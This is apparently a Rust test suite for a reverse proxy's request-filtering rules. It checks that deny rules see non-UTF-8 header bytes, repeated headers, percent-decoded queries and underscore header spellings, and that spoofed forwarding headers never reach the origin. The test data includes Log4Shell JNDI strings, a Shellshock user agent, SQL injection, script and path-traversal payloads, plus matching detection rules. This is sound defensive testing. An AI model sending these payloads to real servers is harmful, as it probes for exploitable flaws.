//! Every value an origin reads is a value the rules see: a header whose value carries bytes
//! that are not UTF-8 (obs-text), every copy of a header sent many times, the query as a
//! framework decodes it (`%31`, `+`); and the forwarding headers an origin trusts for the URL
//! it builds never come from the client. Against the echoing origin, over HTTP/1.1 and HTTP/2.

use palisade_tests::http::{Front, H1Conn, H2Conn, Origin, Resp, base_config};
use palisade_tests::net;

const RULES: &str = r#"
[[tenant]]
id = 1
[[tenant.rule]]
name = "jndi"
action = "deny"
when = [{ attr = "header:x-api-version", contains = "${jndi:" }]
[[tenant.rule]]
name = "attack-header"
action = "deny"
when = [{ attr = "header:x-attack", present = true }]
[[tenant.rule]]
name = "shellshock"
action = "deny"
when = [{ attr = "user_agent", contains = "() {" }]
[[tenant.rule]]
name = "debug"
action = "deny"
when = [{ attr = "query", regex = "(^|&)debug=1(&|$)" }]
[[tenant.rule]]
name = "sqli"
action = "deny"
when = [{ attr = "query", regex = "(?i)union\\s+select|<script" }]
[[tenant.rule]]
name = "traversal"
action = "deny"
when = [{ attr = "query", contains = "../" }]
"#;

fn start(origin: &Origin) -> Front {
    let o = origin.addr();
    Front::start(
        move |a, m| {
            format!(
                "{}[rules]\nfile = \"rules.toml\"\n\n\
                 [[site]]\nhosts = [\"a.test\"]\nupstream = \"app\"\ntenant = 1\n",
                base_config(a, m, o)
            )
        },
        Some(RULES),
    )
}

/// One HTTP/1.1 request of raw header lines (bytes as given) to `a.test`.
fn raw(front: &Front, target: &str, lines: &[&[u8]]) -> Resp {
    raw_to(front, "a.test", &format!("GET {target}"), lines, b"")
}

#[test]
fn http_rules_see_every_header_value_and_the_decoded_query() {
    let origin = Origin::start();
    let front = start(&origin);

    // Control: the origin serves the harmless forms.
    assert_eq!(raw(&front, "/", &[b"X-Api-Version: 1"]).status, 200);
    assert_eq!(raw(&front, "/?debug=2&q=union", &[]).status, 200);
    assert_eq!(raw(&front, "/?q=a+b%20c", &[]).status, 200);
    let served = origin.requests();
    assert_eq!(served, 3);

    // A value with a byte that is no UTF-8 (or is UTF-8 but not ASCII) is still seen.
    let denied_heads: &[&[&[u8]]] = &[
        &[b"X-Api-Version: ${jndi:ldap://198.51.100.9/x}\xe9"],
        &[b"X-Api-Version: ${jndi:ldap://198.51.100.9/x}\xc3\xa9"],
        &[b"X-Attack: \x80"],
        &[b"User-Agent: () { :; }; /bin/echo pwned \xa0"],
        // The first copy unreadable must not hide the next ones.
        &[b"X-Api-Version: \xe9", b"X-Api-Version: ${jndi:x}"],
    ];
    for lines in denied_heads {
        let r = raw(&front, "/", lines);
        let shown: Vec<_> = lines.iter().map(|l| String::from_utf8_lossy(l)).collect();
        assert_eq!(r.status, 403, "{shown:?}: {}", r.body);
    }
    // Past the 64th copy of a header (h1 allows 100 fields).
    let decoys: Vec<&[u8]> = std::iter::repeat_n(&b"X-Api-Version: 1"[..], 90)
        .chain([&b"X-Api-Version: ${jndi:x}"[..]])
        .collect();
    assert_eq!(raw(&front, "/", &decoys).status, 403);

    // The query as the origin's framework decodes it.
    for q in [
        "debug=%31",
        "%64ebug=1",
        "x=1&de%62ug=1",
        "q=union+select+1",
        "q=union%20select%201",
        "q=UNION%09SELECT",
        "q=%3Cscript%3E",
        "f=..%2f..%2fetc%2fpasswd",
        "f=%2e%2e/%2e%2e/etc",
    ] {
        let r = raw(&front, &format!("/?{q}"), &[]);
        assert_eq!(r.status, 403, "{q}: {}", r.body);
    }
    assert_eq!(
        origin.requests(),
        served,
        "a denied value reached the origin"
    );

    // HTTP/2: more copies of one header than the rules look at is refused (431), and a
    // payload past 64 decoys is seen.
    let mut h2 = H2Conn::connect(Some(net::test_ip()), front.addr()).unwrap();
    let mut fields: Vec<(&str, &str)> = vec![("x-api-version", "1"); 200];
    fields.push(("x-api-version", "${jndi:x}"));
    let id = h2
        .send_request("GET", "a.test", "/", &fields, true)
        .unwrap();
    assert_eq!(h2.read_response(id).unwrap().status, 403);
    let many: Vec<(&str, &str)> = vec![("x-b", "1"); 300];
    let id = h2.send_request("GET", "a.test", "/", &many, true).unwrap();
    assert_eq!(h2.read_response(id).unwrap().status, 431);
    let id = h2
        .send_request("GET", "a.test", "/?debug=%31", &[], true)
        .unwrap();
    assert_eq!(h2.read_response(id).unwrap().status, 403);
    assert_eq!(origin.requests(), served);
    assert!(front.metric("http_front_limit_hits_total{limit=\"header_copies\"}") >= 1);
}

#[test]
fn http_forwarding_headers_for_the_url_never_come_from_the_client() {
    let origin = Origin::start();
    let front = start(&origin);
    let r = raw(
        &front,
        "/",
        &[
            b"X-Forwarded-Port: 8443",
            b"X-Forwarded-Prefix: /evil",
            b"X-Forwarded-Scheme: https",
            b"X-Forwarded-Ssl: on",
            b"Front-End-Https: on",
            b"X-Original-Host: evil.test",
            b"X-Url-Scheme: https",
            b"X-Keep: yes",
        ],
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let seen = r.body.to_ascii_lowercase();
    assert!(seen.contains("x-keep: yes"), "{seen}");
    for h in [
        "x-forwarded-port",
        "x-forwarded-prefix",
        "x-forwarded-scheme",
        "x-forwarded-ssl",
        "front-end-https",
        "x-original-host",
        "x-url-scheme",
    ] {
        assert!(!seen.contains(h), "{h} reached the origin: {seen}");
    }
}

const RULES_U: &str = r#"
[[tenant]]
id = 2
[[tenant.rule]]
name = "no-admin-role"
action = "deny"
when = [{ attr = "header:x-role", exact = "admin" }]
[[tenant.rule]]
name = "api-versions"
action = "deny"
when = [{ attr = "path", prefix = "/api/" }, { attr = "header:x-api-version", one_of = ["1", "2"], not = true }]
[[tenant.rule]]
name = "small-uploads"
action = "deny"
when = [{ attr = "path", prefix = "/small" }, { attr = "header:content-length", ge = 100 }]
"#;

/// One HTTP/1.1 request to `host` of raw header lines and a body.
fn raw_to(front: &Front, host: &str, head: &str, lines: &[&[u8]], body: &[u8]) -> Resp {
    let mut req = format!("{head} HTTP/1.1\r\nHost: {host}\r\n").into_bytes();
    for l in lines {
        req.extend_from_slice(l);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"Connection: close\r\n\r\n");
    req.extend_from_slice(body);
    let mut c = H1Conn::connect(Some(net::test_ip()), front.addr()).unwrap();
    c.send_raw(&req).unwrap();
    c.read_response().unwrap()
}

/// A site that passes names with `_` (its CGI origin reads `X_Role` as `X-Role`): the rules
/// see both spellings, and the `_` spelling of a stripped or proxy-set header never passes;
/// a negated condition (an allow-list) holds when any copy of the header fails it; a length
/// with leading zeros is the number the origin reads.
#[test]
fn http_rules_see_underscore_spellings_every_copy_and_padded_numbers() {
    let origin = Origin::start();
    let o = origin.addr();
    let front = Front::start(
        move |a, m| {
            format!(
                "{}[rules]\nfile = \"rules.toml\"\n\n\
                 [[site]]\nhosts = [\"u.test\"]\nupstream = \"app\"\ntenant = 2\n\
                 underscores_in_headers = true\n",
                base_config(a, m, o)
            )
        },
        Some(RULES_U),
    );
    // Controls.
    assert_eq!(
        raw_to(&front, "u.test", "GET /", &[b"X-Role: user"], b"").status,
        200
    );
    let api = |lines: &[&[u8]]| raw_to(&front, "u.test", "GET /api/x", lines, b"").status;
    assert_eq!(api(&[b"X-Api-Version: 1"]), 200);
    assert_eq!(api(&[b"X-Api-Version: 1", b"X-Api-Version: 2"]), 200);
    let served = origin.requests();
    for lines in [
        &[&b"X-Role: admin"[..]][..],
        &[b"X_Role: admin"],
        &[b"X-Role: user", b"X_Role: admin"],
    ] {
        let r = raw_to(&front, "u.test", "GET /", lines, b"");
        assert_eq!(
            r.status,
            403,
            "{:?}",
            lines
                .iter()
                .map(|l| String::from_utf8_lossy(l))
                .collect::<Vec<_>>()
        );
    }
    // An allow-list: a second copy holding an allowed value switched it off.
    assert_eq!(api(&[b"X-Api-Version: 3"]), 403);
    assert_eq!(api(&[]), 403);
    assert_eq!(api(&[b"X-Api-Version: 1", b"X-Api-Version: 3"]), 403);
    assert_eq!(api(&[b"X-Api-Version: 3", b"X-Api-Version: 1"]), 403);
    // A length of 20 digits, zeros first: 150 to the origin.
    let body = [b'A'; 150];
    for len in [
        "150",
        "0000000000000000150",
        "00000000000000000150",
        "000000000000000000000000000150",
    ] {
        let line = format!("Content-Length: {len}");
        let r = raw_to(&front, "u.test", "POST /small", &[line.as_bytes()], &body);
        assert_eq!(r.status, 403, "{line}");
    }
    assert_eq!(
        origin.requests(),
        served,
        "a denied request reached the origin"
    );
    // The `_` spellings of stripped and proxy-set headers never pass.
    let r = raw_to(
        &front,
        "u.test",
        "GET /",
        &[
            b"X_Real_IP: 6.6.6.6",
            b"X_Forwarded_For: 6.6.6.6",
            b"X_Original_URL: /admin",
            b"X_HTTP_Method_Override: DELETE",
            b"X_Keep: yes",
        ],
        b"",
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let seen = r.body.to_ascii_lowercase();
    assert!(seen.contains("x_keep: yes"), "{seen}");
    assert!(!seen.contains("6.6.6.6"), "{seen}");
    assert!(!seen.contains("x_original_url"), "{seen}");
    assert!(!seen.contains("x_http_method_override"), "{seen}");
}

const RULES_F: &str = r#"
[[tenant]]
id = 3
[[tenant.rule]]
name = "https-only"
action = "deny"
when = [{ attr = "path", prefix = "/secure" }, { attr = "header:x-forwarded-proto", exact = "https", not = true }]
[[tenant.rule]]
name = "internal-only"
action = "deny"
when = [{ attr = "path", prefix = "/internal" }, { attr = "header:x-real-ip", prefix = "10.", not = true }]
[[tenant.rule]]
name = "no-hh"
action = "deny"
when = [{ attr = "header:Host", exact = "HH.f.test" }]
[[tenant.rule]]
name = "no-debug-proto"
action = "deny"
when = [{ attr = "path", prefix = "/debug" }, { attr = "header:X-Forwarded-Proto", exact = "https" }]
"#;

/// Rules on the headers the proxy sets read what the origin gets, never the client's copy
/// (`X-Forwarded-Proto: https` over cleartext, `X-Real-IP: 10.1.1.1` passed rules the
/// origin's copy fails); `header:host` is the host the site was chosen by (its case, a
/// trailing dot, a port or an absolute-form target passed a rule on the raw value).
#[test]
fn http_rules_on_forwarding_headers_and_host_see_what_the_origin_gets() {
    let origin = Origin::start();
    let o = origin.addr();
    let front = Front::start(
        move |a, m| {
            format!(
                "{}[rules]\nfile = \"rules.toml\"\n\n\
                 [[site]]\nhosts = [\"f.test\", \"hh.f.test\"]\nupstream = \"app\"\ntenant = 3\n",
                base_config(a, m, o)
            )
        },
        Some(RULES_F),
    );
    assert_eq!(raw_to(&front, "f.test", "GET /", &[], b"").status, 200);
    let served = origin.requests();
    for (target, lines) in [
        ("GET /secure/x", &[&b"X-Forwarded-Proto: https"[..]][..]),
        ("GET /internal/x", &[&b"X-Real-IP: 10.1.1.1"[..]][..]),
    ] {
        let r = raw_to(&front, "f.test", target, lines, b"");
        assert_eq!(r.status, 403, "{target} {lines:?}: {}", r.body);
    }
    for host in ["hh.f.test", "HH.f.test", "hh.f.test.", "hh.f.test:80"] {
        let r = raw_to(&front, host, "GET /", &[], b"");
        assert_eq!(r.status, 403, "Host: {host}: {}", r.body);
    }
    let r = raw_to(&front, "f.test", "GET http://hh.f.test/x", &[], b"");
    assert_eq!(r.status, 403, "absolute form: {}", r.body);
    // A rule naming the header in capitals reads the same value: the origin's copy
    // (`http` over cleartext), whatever the client sent.
    let r = raw_to(
        &front,
        "f.test",
        "GET /debug",
        &[b"X-Forwarded-Proto: https"],
        b"",
    );
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(
        origin.requests(),
        served + 1,
        "nothing denied reached the origin"
    );
}
